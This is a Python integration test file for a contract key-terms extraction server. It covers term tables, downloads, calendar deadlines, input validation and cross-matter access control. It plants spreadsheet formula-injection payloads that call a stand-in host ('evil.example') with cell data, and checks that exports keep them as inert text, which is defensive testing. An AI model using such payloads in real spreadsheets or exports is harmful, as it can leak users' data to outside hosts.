"""Key terms over a real `docpipe serve` (127.0.0.1, per-user keys, no language model: the key terms are read by
the offline readers): the key-terms table of a collection as a job (per matter, from the cell cache when run
again, cancelled while queued), its downloads and its deadlines as an iCalendar file; a review job with typed
questions, typed ``columns`` and key terms; and each new input abused (columns of unknown kinds, terms and keys,
too many columns or options, another matter's key, contract text that starts like a spreadsheet formula)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.contracts import DATED_SUPPLY, lines_pdf
from support.server import Client, assert_error, new_key, serving

from docpipe.server.job_requests import MAX_OPTION_CHARS, MAX_OPTIONS
from docpipe.terms.catalog import KEY_TERMS, key_term_columns

pytestmark = pytest.mark.integration

# A title line that a spreadsheet would run as a formula, read as the contract's title.
PLANTED = '=HYPERLINK("HTTPS://EVIL.EXAMPLE/?LEAK","OPEN")'
FORMULA = lines_pdf(
    f"{PLANTED} SUPPLY AGREEMENT",
    "This Supply Agreement is made as of June 1, 2020 between Acme Widgets Inc. and Northwind Buyer LLC.",
    "ARTICLE 1 GOVERNING LAW",
    "1.1 This Agreement is governed by the laws of the State of Texas.",
)
HEADERS = [c.key for c in key_term_columns()]
CHOICE = {
    "key": "Shipping",
    "question": "Which party pays for shipping?",
    "kind": "choice",
    "options": ["Buyer", "Supplier"],
}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, sample_pdf: Path) -> Iterator[dict]:
    home = tmp_path_factory.mktemp("terms") / "home"
    home.mkdir()
    keys = {
        "alice": new_key(home, "alice", "deal-x:write"),
        "carol": new_key(home, "carol", "deal-x:read"),
        "bob": new_key(home, "bob", "deal-y:write"),
    }
    with serving(home, "--engine", "extractive", "--no-ui", token=None) as served:
        alice = Client(served, keys["alice"])
        alice.collection("deal-room", {"msa.pdf": sample_pdf.read_bytes(), "dated-supply.pdf": DATED_SUPPLY})
        alice.collection("formula-room", {"=cmd.pdf": FORMULA})
        yield {"served": served, "home": home, "keys": keys}


def client(world: dict, user: str, matter: str | None = None) -> Client:
    return Client(world["served"], world["keys"][user], matter)


def cell(grid: dict, row_name: str, key: str) -> dict[str, Any]:
    r = [row["name"] for row in grid["rows"]].index(row_name)
    c = [column["key"] for column in grid["columns"]].index(key)
    found: dict[str, Any] = grid["cells"][r][c]
    return found


def events(ics: bytes) -> dict[str, Any]:
    from icalendar import Calendar

    return {str(e["summary"]): e for e in Calendar.from_ical(ics).walk("VEVENT")}


def test_a_key_terms_job_fills_the_table_from_the_contracts_and_downloads(world: dict) -> None:
    import openpyxl

    alice, carol = client(world, "alice"), client(world, "carol")
    started = alice.terms("deal-room")
    assert started.status_code == 202, started.text
    job = started.json()
    assert started.headers["location"] == job["url"] == f"/v1/jobs/{job['id']}"
    assert job["request"]["type"] == "terms" and job["request"]["key_terms"] is True
    done = alice.wait(job["id"])
    assert done["state"] == "done", done
    total = 2 * len(KEY_TERMS)
    assert done["progress"] == {"done": total, "total": total, "cached": 0, "failed": 0}, done["progress"]
    grid = done["grid"]
    assert [c["key"] for c in grid["columns"]] == HEADERS
    assert {(c["term"], c["kind"]) for c in grid["columns"]} == {(t.id, t.kind) for t in KEY_TERMS}
    assert sorted(r["name"] for r in grid["rows"]) == ["dated-supply.pdf", "msa.pdf"]
    assert grid["manifest"]["mode"] == "extractive" and grid["manifest"]["matter"] == "deal-x"

    # The sample's values, each with the verified quote it was read from and its page.
    law = cell(grid, "msa.pdf", "Governing law")
    assert law["status"] == "present" and law["value"]["normalized"] == "Delaware", law
    assert law["pages"] == "p. 11" and "Delaware" in law["quotes"][0]["quote"] and law["quotes"][0]["verified"]
    signed = cell(grid, "msa.pdf", "Agreement date")
    assert signed["value"]["normalized"] == "2025-03-03" and signed["value"]["as_written"] == "March 3, 2025"
    assert signed["pages"] == "p. 1", signed
    # A computed value shows its working.
    notice = cell(grid, "dated-supply.pdf", "Last day for notice")
    assert notice["value"]["normalized"] == "2019-02-06", notice
    assert notice["derivation"] == "2019-05-07 - 90 days = 2019-02-06"

    # A reader of the matter downloads it: typed cells are Excel dates, the exports name the job's type.
    xlsx = carol.get(f"{done['url']}/grid", params={"format": "xlsx"})
    assert xlsx.status_code == 200, xlsx.text
    assert xlsx.headers["content-disposition"] == f'attachment; filename="terms-deal-room-{job["id"][:8]}.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content))["Review"]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    expires = rows["dated-supply.pdf"][header.index("Expiration date")]
    assert expires.is_date and expires.value.date().isoformat() == "2019-05-07", (expires.value, expires.data_type)
    table = list(csv.DictReader(io.StringIO(carol.get(f"{done['url']}/grid", params={"format": "csv"}).text)))
    assert {r["document"]: r["Governing law"] for r in table} == {
        "msa.pdf": "Delaware (p. 11)",
        "dated-supply.pdf": "New York (p. 1)",
    }
    as_json = carol.get(f"{done['url']}/grid", params={"format": "json"})
    assert as_json.json()["cells"] == grid["cells"]
    md = carol.get(f"{done['url']}/grid", params={"format": "md"})
    assert md.text.startswith("| Document | Title | Parties |") and "Delaware (p. 11)" in md.text

    # The deadlines as a calendar: the expiration, and the last day for notice with its reminder.
    ics = carol.get(f"{done['url']}/deadlines.ics")
    assert ics.status_code == 200, ics.text
    assert ics.headers["content-type"] == "text/calendar; charset=utf-8"
    assert ics.headers["content-disposition"] == f'attachment; filename="deadlines-deal-room-{job["id"][:8]}.ics"'
    found = events(ics.content)
    # One event per present cell of a deadline column that names a day, and no other.
    labels = {"Expiration date": "Expires", "Last day for notice": "Last day to give notice of non-renewal"}
    expected = {
        f"{labels[key]}: {row['name']}": c["value"]["normalized"]
        for row in grid["rows"]
        for key in labels
        if (c := cell(grid, row["name"], key))["status"] == "present" and len(c["value"]["normalized"]) == 10
    }
    assert {name: e.decoded("dtstart").isoformat() for name, e in found.items()} == expected
    assert expected["Expires: dated-supply.pdf"] == "2019-05-07"
    deadline = found["Last day to give notice of non-renewal: dated-supply.pdf"]
    assert deadline.decoded("dtstart").isoformat() == "2019-02-06"
    assert "2019-05-07 - 90 days = 2019-02-06" in str(deadline["description"])
    assert [str(a.decoded("trigger")) for a in deadline.walk("VALARM")] == ["-14 days, 0:00:00"]
    quiet = events(carol.get(f"{done['url']}/deadlines.ics", params={"remind_days": 0}).content)
    assert quiet["Last day to give notice of non-renewal: dated-supply.pdf"].walk("VALARM") == []
    assert_error(carol.get(f"{done['url']}/deadlines.ics", params={"remind_days": -1}), 422, "invalid_request")

    # Posted again, the table comes from the cell cache; a review with the key terms shares those cells.
    again = alice.wait(alice.terms("deal-room").json()["id"])
    assert again["progress"]["cached"] == total and again["grid"]["cells"] == [
        [{**c, "cached": True} for c in row] for row in grid["cells"]
    ]
    mixed = alice.wait(
        alice.review("deal-room", key_terms=["governing_law"], questions=["Who pays for shipping?"]).json()["id"]
    )
    assert mixed["state"] == "done" and [c["key"] for c in mixed["grid"]["columns"]] == [
        "Governing law",
        "Who pays for shipping?",
    ]
    assert mixed["grid"]["manifest"]["cached_cells"] == [[0, 0], [1, 0]]


def test_chosen_key_terms_only_and_a_review_with_typed_columns(world: dict) -> None:
    alice = client(world, "alice")
    chosen = alice.wait(alice.terms("deal-room", terms=["governing_law", "expiration_date"]).json()["id"])
    assert chosen["request"]["key_terms"] == ["governing_law", "expiration_date"]
    assert [c["key"] for c in chosen["grid"]["columns"]] == ["Governing law", "Expiration date"]

    columns = [CHOICE, {"term": "agreement_date", "key": "Signed"}]
    started = alice.review(
        "deal-room", questions=["Which law governs this agreement?::jurisdiction"], columns=columns, key_terms=["venue"]
    )
    assert started.status_code == 202, started.text
    assert started.json()["request"]["columns"] == columns and started.json()["request"]["type"] == "review"
    done = alice.wait(started.json()["id"])
    assert done["state"] == "done", done
    grid = done["grid"]
    got = [(c["key"], c["kind"], c["term"], c["options"]) for c in grid["columns"]]
    assert got == [
        ("Courts", "jurisdiction", "venue", []),
        ("Shipping", "choice", "", ["Buyer", "Supplier"]),
        ("Signed", "date", "agreement_date", []),
        ("Which law governs this agreement?", "jurisdiction", "", []),
    ]
    assert cell(grid, "msa.pdf", "Signed")["value"]["normalized"] == "2025-03-03"
    # A typed question's cell holds a value of its kind (offline: a candidate the reviewer checks).
    law = cell(grid, "dated-supply.pdf", "Which law governs this agreement?")
    assert law["status"] == "candidate" and law["value"]["kind"] == "jurisdiction", law


def _post(who: Client, route: str, body: Any) -> Any:
    return who.post(
        f"/v1/collections/deal-room/{route}",
        content=json.dumps(body).encode(),
        headers={"Content-Type": "application/json"},
    )


def _column(n: int) -> dict[str, str]:
    return {"question": f"What does the agreement say about matter {n}?", "kind": "text"}


OPTIONS = [f"Option {n}" for n in range(MAX_OPTIONS + 1)]


@pytest.mark.parametrize(
    ("route", "body", "status", "fragments"),
    [
        ("review", {}, 422, ['"columns"', '"key_terms"', '"questions"']),
        (
            "review",
            {"columns": [{"question": "When?", "kind": "dat"}]},
            422,
            ["columns[0]: unknown kind 'dat'", "use one of text, yes_no"],
        ),
        (
            "review",
            {"columns": [{"term": "cap"}]},
            422,
            ["columns[0]: unknown term 'cap'", "the key terms are document_title"],
        ),
        (
            "review",
            {"columns": [{"question": "Law?", "colour": "red"}]},
            422,
            ["unknown key 'colour' in a column; use key, question, kind, options, term"],
        ),
        ("review", {"columns": [{"question": "Law?", "colour": None}]}, 422, ["unknown key 'colour'"]),
        (
            "review",
            {"columns": [{"question": "Who?", "kind": "choice", "options": ["Buyer"]}]},
            422,
            ["at least two options"],
        ),
        (
            "review",
            {"columns": [{"question": "Cap?", "kind": "money", "options": ["a", "b"]}]},
            422,
            ["options are for a choice column"],
        ),
        (
            "review",
            {"columns": [{"term": "governing_law", "kind": "date"}]},
            422,
            ["a key term column takes only key (its header), not kind"],
        ),
        ("review", {"columns": [{"kind": "date"}]}, 422, ["columns[0]: a column needs a question (or a term)"]),
        (
            "review",
            {"columns": [{"question": "Who?", "kind": "choice", "options": ["A", " "]}]},
            422,
            ["options must be a list of non-empty strings"],
        ),
        ("review", {"columns": [{"question": "When?", "kind": 5}]}, 422, ["columns.0.kind"]),
        ("review", {"columns": {"question": "When?"}}, 422, ["columns"]),
        ("review", {"columns": [_column(n) for n in range(201)]}, 422, ['201 "columns" in one review', "at most 200"]),
        (
            "review",
            {"columns": [_column(n) for n in range(150)], "questions": [f"Q{n}?" for n in range(60)]},
            422,
            ["210 columns", "at most 200"],
        ),
        (
            "review",
            {"columns": [{**CHOICE, "options": OPTIONS}]},
            422,
            [f"columns[0]: {MAX_OPTIONS + 1} options", f"at most {MAX_OPTIONS}"],
        ),
        (
            "review",
            {"columns": [{**CHOICE, "options": ["Buyer", "x" * (MAX_OPTION_CHARS + 1)]}]},
            422,
            [f"option 2 is {MAX_OPTION_CHARS + 1} characters long"],
        ),
        (
            "review",
            {"columns": [{"question": "x" * 2001}]},
            422,
            ["columns[0]: the question is 2001 characters long", "under 2000"],
        ),
        (
            "review",
            {"columns": [{"key": "k" * 2001, "question": "Law?"}]},
            422,
            ["columns[0]: the key is 2001 characters long"],
        ),
        (
            "review",
            {"questions": ["Who pays?::choice[" + "|".join(OPTIONS) + "]"]},
            422,
            [f"question 1: {MAX_OPTIONS + 1} options"],
        ),
        ("review", {"questions": ["Law?::country"]}, 422, ["unknown kind 'country'", "use one of"]),
        (
            "review",
            {"columns": [{"term": "governing_law"}], "key_terms": ["governing_law"]},
            422,
            ["asked twice: Governing law"],
        ),
        ("review", {"columns": [CHOICE, CHOICE]}, 422, ["asked twice: Shipping"]),
        ("review", {"key_terms": ["cap"]}, 422, ["no key term 'cap'", "the key terms are document_title"]),
        ("review", {"key_terms": "yes"}, 422, ["key_terms"]),
        ("review", {"key_terms": 1}, 422, ["key_terms"]),
        ("review", {"columns": [{"question": "Law\ud800?"}]}, 400, ["not valid Unicode"]),
        ("review", {"columns": [{**CHOICE, "options": ["Buyer", "Sel\ud800ler"]}]}, 400, ["not valid Unicode"]),
        ("terms", {"terms": ["cap"]}, 422, ["no key term 'cap'", "the key terms are document_title"]),
        ("terms", {"terms": ["parties", "parties"]}, 422, ["asked twice: Parties"]),
        ("terms", {"terms": "parties"}, 422, ["terms"]),
        ("terms", {"columns": [CHOICE]}, 422, ["columns"]),
        ("terms", {"mode": "fast"}, 422, ["mode"]),
        ("terms", {"terms": ["governing_law\udc00"]}, 400, ["not valid Unicode"]),
    ],
)
def test_bad_columns_and_terms_are_refused_with_the_fix(
    world: dict, route: str, body: dict, status: int, fragments: list[str]
) -> None:
    alice = client(world, "alice")
    before = {j["id"] for j in alice.get("/v1/jobs").json()["jobs"]}
    response = _post(alice, route, body)
    assert_error(response, status, "invalid_request" if status == 422 else "bad_unicode", *fragments)
    assert {j["id"] for j in alice.get("/v1/jobs").json()["jobs"]} == before


def test_another_matters_key_cannot_see_download_or_cancel_a_key_terms_job(world: dict) -> None:
    alice, bob, carol = client(world, "alice"), client(world, "bob"), client(world, "carol")
    done = alice.wait(alice.terms("deal-room").json()["id"])
    url = done["url"]
    downloads = [f"{url}/deadlines.ics", f"{url}/grid?format=xlsx", f"{url}/grid?format=json"]
    assert all(carol.get(path).status_code == 200 for path in downloads)
    for who in (bob, client(world, "bob", "deal-y")):
        # Exactly what an id no job has gets: nothing tells that the job exists in another matter.
        missing = assert_error(who.get(url), 404, "not_found")
        assert missing == assert_error(who.get(f"/v1/jobs/{'0' * 32}"), 404, "not_found").replace("0" * 32, done["id"])
        for path in downloads:
            assert_error(who.get(path), 404, "not_found", "no review job")
        assert_error(who.delete(url), 404, "not_found")
        assert done["id"] not in who.get("/v1/jobs").text
        assert_error(who.terms("deal-room"), 404, "not_found", "no collection")
    into = client(world, "bob", "deal-x")  # naming alice's matter does not help
    for response in (into.get(url), into.get(f"{url}/deadlines.ics"), into.terms("deal-room")):
        assert_error(response, 404, "not_found", "no matter")
    # A reader of the matter may read the table but not start one.
    assert_error(carol.terms("deal-room"), 403, "forbidden", "needs write")
    for bad in ("..", "0" * 31, "%2e%2e", "A" * 32):
        assert client(world, "alice").get(f"/v1/jobs/{bad}/deadlines.ics").status_code in (404, 422)


def test_a_key_terms_job_waits_its_turn_and_is_cancelled_while_queued(world: dict) -> None:
    alice = client(world, "alice")
    alice.collection("busy-room", {f"c{n}.pdf": _long_contract(n) for n in range(12)})
    blocker = alice.review("busy-room", questions=[f"What is agreed about matter {n}?" for n in range(150)]).json()
    try:
        queued = alice.terms("deal-room").json()
        assert queued["state"] == "queued" and queued["position"] == 0, queued
        assert_error(alice.get(f"{queued['url']}/deadlines.ics"), 409, "not_done", "GET it again")
        gone = alice.delete(queued["url"])
        assert gone.status_code == 200 and gone.json()["state"] == "cancelled", gone.text
        assert_error(alice.get(f"{queued['url']}/deadlines.ics"), 409, "not_done", "it has no grid")
        assert alice.get(queued["url"]).json()["progress"]["done"] == 0
    finally:
        alice.delete(blocker["url"])
        alice.wait(blocker["id"])


def _long_contract(n: int) -> bytes:
    lines = [f"MASTER AGREEMENT NUMBER {n}", f"This Agreement is made between Supplier {n} Inc. and Buyer {n} LLC."]
    for a in range(1, 31):
        lines.append(f"ARTICLE {a} OBLIGATIONS {a}")
        lines.append(f"{a}.1 The obligations of Supplier {n} under this Article last {a + n} days after notice.")
    return lines_pdf(*lines)


def test_a_formula_led_value_stays_text_in_the_downloads(world: dict) -> None:
    import openpyxl

    alice = client(world, "alice")
    header = '=HYPERLINK("https://evil.example/?"&A1,"Law")'
    columns = [{"key": header, "question": "Which law governs this agreement?", "kind": "jurisdiction"}]
    done = alice.wait(alice.review("formula-room", key_terms=["document_title"], columns=columns).json()["id"])
    assert done["state"] == "done", done
    title = done["grid"]["cells"][0][0]
    assert title["status"] == "present" and title["answer"].startswith(PLANTED), title  # read as the title

    book = openpyxl.load_workbook(io.BytesIO(alice.get(f"{done['url']}/grid", params={"format": "xlsx"}).content))
    formulas, planted = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas.append(f"{sheet.title}!{c.coordinate}")
                if isinstance(c.value, str) and c.value.startswith("=HYPERLINK"):
                    planted.append((sheet.title, c.value, c.data_type, bool(c.quotePrefix)))
    assert formulas == []
    # The title as the reader read it (Citations' answer, its quote) and the column's header, each a string
    # cell with Excel's quote-prefix mark.
    assert {(s, v) for s, v, _t, _q in planted} >= {("Review", header), ("Citations", title["answer"])}, planted
    assert all(t == "s" and q for _s, _v, t, q in planted), planted
    fields = [f for row in csv.reader(io.StringIO(alice.get(f"{done['url']}/grid?format=csv").text)) for f in row]
    assert "'" + header in fields and not [f for f in fields if f.startswith("=")]
